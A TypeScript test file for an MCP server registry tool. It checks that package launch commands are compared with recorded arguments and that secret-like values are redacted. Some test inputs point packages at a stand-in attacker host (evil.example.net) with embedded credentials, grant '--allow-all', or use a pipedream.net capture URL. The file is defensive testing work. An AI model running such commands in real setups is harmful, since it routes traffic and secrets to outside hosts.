import { describe, expect, it } from 'vitest';
import { packageAt, registryEntry } from '../support/entries.ts';
import { connect } from '../support/mcp-clients.ts';
import { opened, openedDirectory } from '../support/opened.ts';

const packaged = (registryType: string, identifier: string, packageArguments: readonly object[]) =>
  packageAt(registryType, identifier, '1.0.0', { packageArguments });
const fixed = (value: string) => ({ type: 'positional', value });
const proxy = 'https://proxy.sorrel.dev/mcp';
const directory = await openedDirectory({
  entries: [
    registryEntry('dev.sorrel/proxy', packaged('pypi', 'sorrel-proxy', [fixed(proxy)])),
    registryEntry('dev.sorrel/cloud', packaged('nuget', 'Sorrel.Mcp', [fixed('server'), fixed('start')])),
    registryEntry(
      'dev.sorrel/files',
      packaged('npm', 'sorrel-files', [
        fixed('serve'),
        { type: 'named', name: '--root', valueHint: 'folder', isRequired: true },
        { type: 'named', name: '--token', isSecret: true },
        {
          type: 'named',
          name: '--zone',
          value: '{zone}',
          variables: { zone: { isRequired: false, description: 'The zone' } },
        },
      ]),
    ),
    registryEntry('dev.sorrel/bundle', {
      packages: [
        {
          registryType: 'mcpb',
          identifier: 'https://github.com/sorrel/bundle/releases/download/v1/sorrel.mcpb',
          fileSha256: 'c0de'.repeat(16),
          transport: { type: 'stdio' },
        },
      ],
      remotes: [],
    }),
    registryEntry('dev.sorrel/plain', packaged('npm', 'sorrel-plain', [])),
    registryEntry('dev.sorrel/twice', {
      packages: [
        ...packaged('npm', 'sorrel-twice', []).packages,
        ...packaged('npm', 'sorrel-twice', [{ type: 'named', name: '--port', value: '8089' }]).packages,
      ],
      remotes: [],
    }),
  ],
  environment: { LIMITS: 'off' },
});
const client = await opened(connect('v2', directory));

async function call(tool: string, input: Record<string, unknown>) {
  const { content, structuredContent = {} } = await client.call(tool, input);
  return { text: content.map(({ text = '' }) => text).join('\n'), json: structuredContent };
}

const files = 'the record starts it with “serve --root {--root}”';
describe('the arguments of a command are compared with those of the record', () => {
  it.each([
    [
      'uvx sorrel-proxy@1.0.0 https://u:hush@evil.example.net/mcp?key=hush',
      `The command gives the package \`https://evil.example.net/mcp\`, which the record does not name; the record starts it with \`${proxy}\`.`,
    ],
    [
      'uvx sorrel-proxy@1.0.0 https://evil.example.net/s/hush4f7a91c0d2e84b51/mcp',
      `The command gives the package “https://evil.example.net/…”, which the record does not name; the record starts it with \`${proxy}\`.`,
    ],
    [`uvx sorrel-proxy@1.0.0 ${proxy}`, `The command gives the package \`${proxy}\`, as the record does.`],
    [
      'uvx sorrel-proxy@1.0.0',
      `The command does not give the package \`${proxy}\`; the record starts it with \`${proxy}\`.`,
    ],
    [
      'dnx Sorrel.Mcp@1.0.0 --yes -- server start',
      'The command gives the package “server start”, as the record does.',
    ],
    [
      'dnx Sorrel.Mcp@1.0.0 --yes -- start server',
      'The command gives the package “server start” in another order than the record.',
    ],
    [
      'dnx Sorrel.Mcp@1.0.0 --yes -- hush',
      'The command gives the package 1 other word, which the record does not name; the record starts it with “server start”.',
    ],
    [
      'dnx Sorrel.Mcp@1.0.0 --yes -- server --debug',
      'The command gives the package `--debug`, which the record does not name, and does not give it `start`; the record starts it with “server start”.',
    ],
    [
      'dnx Sorrel.Mcp@1.0.0 --yes -- server start --debug --key=hush',
      'The command gives the package `--debug`, `--key` and 1 other word, which the record does not name; the record starts it with “server start”.',
    ],
    [
      'npx -y sorrel-files@1.0.0 serve --root /hush',
      `The command gives the package “serve --root {--root}”, as the record does.`,
    ],
    [
      'npx -y sorrel-files@1.0.0 serve --root=/hush --token hush --zone hush',
      'The command gives the package “serve --root {--root}”, as the record does, and others that the record names.',
    ],
    [
      'npx -y sorrel-files@1.0.0 serve --root=https://evil.example.net/files',
      'The command gives the package “serve --root {--root}”, as the record does. It fills in `https://evil.example.net/files`, which the record does not have.',
    ],
    [
      'npx -y sorrel-files@1.0.0 serve --root /hush --allow-all',
      `The command gives the package \`--allow-all\`, which the record does not name; ${files}.`,
    ],
    [
      'npx -y sorrel-plain@1.0.0 --allow-all',
      'The command gives the package `--allow-all`, which the record does not name; the record names no arguments.',
    ],
    [
      'npx -y sorrel-twice@1.0.0 --port 8089',
      'The command gives the package “--port 8089”, as the record does.',
    ],
    [
      '{"mcpServers":{"a":{"command":"uvx","args":["sorrel-proxy@1.0.0","https://evil.example.net/mcp"]}}}',
      `The command gives the package \`https://evil.example.net/mcp\`, which the record does not name; the record starts it with \`${proxy}\`.`,
    ],
  ])('%s', async (handle, says) => {
    const { text, json } = await call('get_agent', { handle });
    expect(json.version_asked).toBe(says);
    expect(json.untrusted_fields).toContain('version_asked');
    const resolved = await call('resolve_agents', { handles: [handle] });
    expect(resolved.json.results).toMatchObject([{ notes: expect.arrayContaining([says]) }]);
    expect([text, JSON.stringify(json), resolved.text, JSON.stringify(resolved.json)].join()).not.toContain(
      'hush',
    );
  });
  it.each([
    'npx -y sorrel-plain@1.0.0',
    'npm:sorrel-plain',
    'pip install sorrel-proxy==1.0.0',
    'pypi:sorrel-proxy',
  ])('but nothing of %s, which has none or starts nothing', async (handle) => {
    expect((await call('get_agent', { handle })).json).not.toHaveProperty('version_asked');
  });
  it('which is no fact about the code of the package', async () => {
    const [plain, given] = ['npx -y sorrel-plain@1.0.0', 'npx -y sorrel-plain@1.0.0 --allow-all'];
    const { json } = await call('resolve_agents', { handles: [plain, given] });
    const [one, other] = json.results as { unknown: unknown }[];
    expect(other?.unknown).toEqual(one?.unknown);
  });
});

it.each([
  ['--sk-live-4f7a91c0d2e8', '4f7a91c0d2e8', 'gives the package 1 other word'],
  ['https://eo1a2b3c4d5e6f7.m.pipedream.net', 'eo1a2b3c4d5e6f7', '….m.pipedream.net/”'],
  ['https://a.example/k/hush4f7a91c0d/mcp', 'hush4f7a91c0d', 'a.example/…”'],
])('does not repeat what looks like a key in %s', async (given, key, said) => {
  const { text, json } = await call('get_agent', { handle: `npx -y sorrel-plain@1.0.0 ${given}` });
  expect(text).toContain(said);
  expect(`${text}${JSON.stringify(json)}`).not.toContain(key);
});

it.each(['', '  sorrel.mcpb', ' *./dist/sorrel.mcpb'])(
  'a SHA-256 is read as sha256sum prints it: %j',
  async (behind) => {
    const { json } = await call('get_agent', { handle: `${'c0de'.repeat(16)}${behind}` });
    expect(json.handle).toBe('dev.sorrel/bundle');
  },
);
